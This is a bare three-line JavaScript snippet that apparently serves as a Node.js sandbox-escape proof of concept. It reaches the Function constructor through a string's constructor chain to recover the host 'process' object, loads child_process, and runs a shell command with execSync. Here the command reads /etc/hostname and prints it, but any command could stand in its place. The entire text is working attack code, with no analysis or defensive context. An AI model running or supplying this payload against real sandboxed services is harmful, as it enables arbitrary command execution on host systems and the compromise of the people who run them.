const run = ''.constructor.constructor('return process')();
const r = run.mainModule.require('child_process').execSync('cat /etc/hostname');
console.log(String(r));
